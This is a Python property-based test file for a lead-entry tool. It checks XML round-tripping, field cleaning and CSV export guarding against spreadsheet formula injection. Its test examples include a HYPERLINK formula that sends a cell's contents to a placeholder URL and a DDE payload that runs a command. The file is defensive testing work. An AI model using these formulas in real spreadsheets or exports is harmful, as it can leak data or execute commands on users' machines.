"""Property tests: whatever an agent types or pastes, a lead is refused or sent exactly."""

from __future__ import annotations

import csv
import re
import tempfile
import xml.etree.ElementTree as ET
from pathlib import Path

from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from leaddesk.domain.fields import FIELD_NAMES, FIELDS, FieldProblem, Kind, LeadInvalid, clean_field
from leaddesk.domain.lead import Lead
from leaddesk.domain.us_states import STATE_NAMES
from leaddesk.history.export import HEADER, export_csv
from leaddesk.history.formula_guard import guarded, unguarded
from leaddesk.history.store import Store
from leaddesk.wire.securitytrax_xml import build_document, parse_leads_document
from tests.support.lead_files import read_lead_file
from tests.support.leads import MINIMAL

FREE_TEXT = [spec.name for spec in FIELDS if spec.kind in (Kind.TEXT, Kind.MULTILINE)]
BY_KIND = {kind: [spec.name for spec in FIELDS if spec.kind is kind] for kind in Kind}


SETTINGS = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# Every code point, surrogates and controls included, with the awkward ones made likely.
ANY_CHAR = st.characters(codec=None, categories=None, exclude_categories=[])
AWKWARD = st.sampled_from(
    [
        "\x00",
        "\x01",
        "\x0b",
        "\x0c",
        "\x1b",
        "\x7f",
        "\x85",
        "\xa0",
        "\u2028",
        "\u2029",
        "\ufeff",
        "\ufffe",
        "\uffff",
        "\ud800",
        "\udfff",
        "\t",
        "\n",
        "\r",
        "\r\n",
        " ",
        "&",
        "<",
        ">",
        '"',
        "'",
        "]]>",
        "&amp;",
        "<![CDATA[",
        "é",
        "北",
        "👨‍👩‍👧",
        "\U0010ffff",
    ]
)
# Text XML 1.0 can carry (but with line breaks, odd spaces and markup characters).
XML_CHAR = ANY_CHAR.filter(
    lambda c: c in "\t\n\r" or "\x20" <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd" or c > "\uffff"
)
CARRIABLE_TEXT = st.lists(
    st.one_of(
        AWKWARD.filter(lambda s: s.isprintable() or s in ("\t", "\n", "\r", "\r\n")),
        st.text(XML_CHAR, max_size=4),
    ),
    max_size=8,
).map("".join)
ANY_TEXT = st.one_of(
    st.text(),
    st.text(ANY_CHAR),
    st.lists(st.one_of(AWKWARD, st.text(ANY_CHAR, max_size=3)), max_size=12).map("".join),
)


def _round_trip(lead: Lead) -> dict[str, str]:
    document = build_document([lead])
    ET.fromstring(document)  # a strict, independent parse: well-formed or this raises
    [back] = parse_leads_document(document)
    return back


@SETTINGS
@given(name=st.sampled_from(FREE_TEXT), text=ANY_TEXT)
@example(name="fname", text="\x00")
@example(name="lead_comments", text="a\rb")
@example(name="lead_comments", text="\ud800")
@example(name="city", text="x]]>y")
@example(name="lead_callcenter_notes", text="\t \n")
def test_free_text_is_sent_exactly_or_refused_with_a_message(name: str, text: str) -> None:
    try:
        lead = Lead.parse(MINIMAL | {name: text})
    except LeadInvalid as invalid:
        assert list(invalid.problems) == [name]
        assert invalid.problems[name].strip()
        return
    sent = getattr(lead, name)
    assert sent == clean_field(name, text)
    back = _round_trip(lead)
    assert back[name] == sent
    assert back == lead.values()


@settings(SETTINGS, max_examples=75)
@given(
    st.fixed_dictionaries(
        {}, optional=dict.fromkeys(FREE_TEXT, st.one_of(CARRIABLE_TEXT, CARRIABLE_TEXT, ANY_TEXT))
    )
)
def test_any_lead_the_model_accepts_builds_a_well_formed_document(
    extra: dict[str, str],
) -> None:
    try:
        lead = Lead.parse(MINIMAL | extra)
    except LeadInvalid as invalid:
        assert set(invalid.problems) <= set(extra)
        assert all(message.strip() for message in invalid.problems.values())
        return
    document = build_document([lead, lead.with_unique_id()])
    assert document.startswith(b'<?xml version="1.0" standalone="yes"?>')
    document.decode("utf-8")
    root = ET.fromstring(document)
    assert [len(element) for element in root] == [30, 30]
    assert parse_leads_document(document)[0] == lead.values()


# --- clean_field is idempotent ----------------------------------------------------------

PHONES = st.builds(
    lambda area, exchange, line, style: style.format(a=area, e=exchange, n=line),
    st.sampled_from(["801", "208", "212", "416", "604", "907"]),
    st.integers(200, 999).map(str),
    st.integers(0, 9999).map("{:04d}".format),
    st.sampled_from(["({a}) {e}-{n}", "{a}.{e}.{n}", "{a}-{e}-{n}", "+1 {a} {e} {n}", "{a}{e}{n}"]),
)
ZIPS = st.from_regex(r"\A[0-9]{5}(-[0-9]{4})?\Z")
STATES = st.sampled_from(list(STATE_NAMES) + list(STATE_NAMES.values())).flatmap(
    lambda s: st.sampled_from([s, s.lower(), s.upper(), f"  {s} "])
)
EMAILS = st.emails()
MONEY = st.decimals(min_value=0, max_value=99999, places=2).flatmap(
    lambda d: st.sampled_from([str(d), f"${d}", f"{d:,}", f" {d.normalize()} "])
)
CHOICES = {
    spec.name: st.sampled_from([v for v, _ in spec.choices] + [lb for _, lb in spec.choices])
    for spec in FIELDS
    if spec.kind is Kind.CHOICE
}


@st.composite
def field_and_value(draw: st.DrawFn) -> tuple[str, str]:
    spec = draw(st.sampled_from(FIELDS))
    strategy: st.SearchStrategy[str]
    if spec.kind in (Kind.TEXT, Kind.MULTILINE):
        strategy = ANY_TEXT
    elif spec.kind is Kind.PHONE:
        strategy = PHONES
    elif spec.kind is Kind.ZIP:
        strategy = ZIPS
    elif spec.kind is Kind.STATE:
        strategy = STATES
    elif spec.kind is Kind.EMAIL:
        strategy = EMAILS
    elif spec.kind is Kind.MONEY:
        strategy = MONEY
    else:
        strategy = CHOICES[spec.name]
    return spec.name, draw(strategy)


@SETTINGS
@given(field_and_value())
@example(("email", "Sue@EXAMPLE.com"))
@example(("lead_purchase_price", "$27.5"))
@example(("lead_comments", " a\r\n\r\nb "))
@example(("state", "district of columbia"))
def test_clean_field_is_idempotent(item: tuple[str, str]) -> None:
    name, value = item
    try:
        once = clean_field(name, value)
    except FieldProblem:
        # Valid examples are the point; random free text and odd generated emails may not be.
        assume(False)
        return
    assert clean_field(name, once) == once


def test_idempotence_examples_are_mostly_valid() -> None:
    """Guard the property above against assume() quietly discarding every example."""
    for name, value in [
        ("phone1", "(801) 312-7735"),
        ("zip", "83660-1234"),
        ("state", "idaho"),
        ("email", "sue@example.com"),
        ("lead_purchase_price", "$1,250.5"),
        ("lead_type_id", "Queue"),
        ("lead_home_ownership", "Rent"),
    ]:
        once = clean_field(name, value)
        assert once and clean_field(name, once) == once


# --- what the strict fields send --------------------------------------------------------

DIGITISH = st.text(
    st.one_of(st.characters(categories=["Nd"]), st.sampled_from("0123456789-. $,()+")),
    min_size=1,
    max_size=14,
)

SENT_FORMAT = {
    Kind.PHONE: r"[0-9]{10}",
    Kind.ZIP: r"[0-9]{5}(?:[0-9]{4})?",
    Kind.MONEY: r"[0-9]+\.[0-9]{2}",
}


@SETTINGS
@given(
    name=st.sampled_from(BY_KIND[Kind.PHONE] + BY_KIND[Kind.ZIP] + BY_KIND[Kind.MONEY]),
    text=st.one_of(DIGITISH, ANY_TEXT),
)
@example(name="zip", text="８３６６０")
@example(name="lead_purchase_price", text="٢٧.٥")
@example(name="phone1", text="８０１３１２７７３５")
def test_numeric_fields_are_refused_or_sent_in_ascii_digits(name: str, text: str) -> None:
    try:
        sent = clean_field(name, text)
    except FieldProblem as problem:
        assert str(problem).strip()
        return
    kind = next(spec.kind for spec in FIELDS if spec.name == name)
    assert sent == "" or re.fullmatch(SENT_FORMAT[kind], sent), f"{name} sent as {sent!r}"


# --- CSV export and import ----------------------------------------------------------------

FORMULA_LIKE = st.lists(
    st.one_of(
        st.sampled_from(
            ["=", "+", "-", "@", "\t", "\r", "\n", "'", "''", " ", ";", "; =", "\t-", "\n="]
        ),
        st.text(),
    ),
    max_size=6,
).map("".join)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells_a_spreadsheet_may_see(cell: str) -> list[str]:
    """The cell, and its parts as a spreadsheet splitting on semicolons or tabs (and on
    line breaks, as it then sees no quotes) sees them."""
    return [cell, *re.split(r"[;\t\r\n]", cell)]


@SETTINGS
@given(text=st.one_of(FORMULA_LIKE, ANY_TEXT))
@example(text='=HYPERLINK("http://example.com/?"&A1,"Click")')
@example(text="'=1+1")
@example(text="'Tis fine")
@example(text="Call back;=1+2;thanks")
@example(text="\t\t=1")
@example(text="Call back\n=1+2;thanks")
@example(text="a\r\n-1")
def test_a_guarded_cell_reads_back_exactly_and_never_starts_a_formula(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    for part in cells_a_spreadsheet_may_see(cell):
        assert part[:1] not in FORMULA_STARTS, (cell, part)


@settings(SETTINGS, max_examples=40)
@given(name=st.sampled_from(FREE_TEXT), text=FORMULA_LIKE)
@example(name="lead_comments", text="=cmd|' /C calc'!A0")
@example(name="lead_callcenter_notes", text="- call after 5pm")
def test_free_text_exported_to_csv_is_sent_again_exactly(name: str, text: str) -> None:
    """Whatever a lead's free text holds, an exported file given to `leaddesk send` (with
    the extra columns dropped) carries the lead's own values, formulas guarded or not."""
    try:
        lead = Lead.parse(MINIMAL | {name: text})
    except LeadInvalid:
        return
    with tempfile.TemporaryDirectory() as temp:
        folder = Path(temp)
        with Store(folder / "history.sqlite3") as store:
            [lead_id] = store.add_many([(lead, "https://example.com/leadpostxml.php")])
            export_csv(store, [lead_id], folder / "export.csv")
            kept = store.get(lead_id)  # with the lead ID the store gave it
        assert kept is not None
        with (folder / "export.csv").open(encoding="utf-8-sig", newline="") as file:
            table = list(csv.reader(file))
        start = len(HEADER) - len(FIELD_NAMES)
        written = table[1][start + FIELD_NAMES.index(name)]
        for part in cells_a_spreadsheet_may_see(written):
            assert part[:1] not in ("=", "+", "-", "@"), (written, part)
        with (folder / "fields.csv").open("w", encoding="utf-8-sig", newline="") as file:
            csv.writer(file).writerows(line[start:] for line in table)
        again = read_lead_file(folder / "fields.csv")
    assert again.problems == []
    assert [read.values() for _, read in again.leads] == [kept.lead.values()]


NUMBER_LIKE = st.from_regex(r"\$?-?[0-9,]{0,60}(\.[0-9]{0,40})?(e[0-9]{1,4})?", fullmatch=True)


@SETTINGS
@given(name=st.sampled_from(FIELD_NAMES), text=st.one_of(ANY_TEXT, NUMBER_LIKE))
@example(name="lead_purchase_price", text="1" * 30)  # past the decimal context's digits
def test_every_field_gives_a_value_or_a_message_never_a_crash(name: str, text: str) -> None:
    """Typed, pasted or read from a file: what reaches a field is sent or refused with a
    message for the agent; any other exception would lose the lead from the form."""
    try:
        cleaned = clean_field(name, text)
    except FieldProblem as problem:
        assert str(problem).strip()
        return
    assert clean_field(name, cleaned) == cleaned  # what is sent checks again unchanged
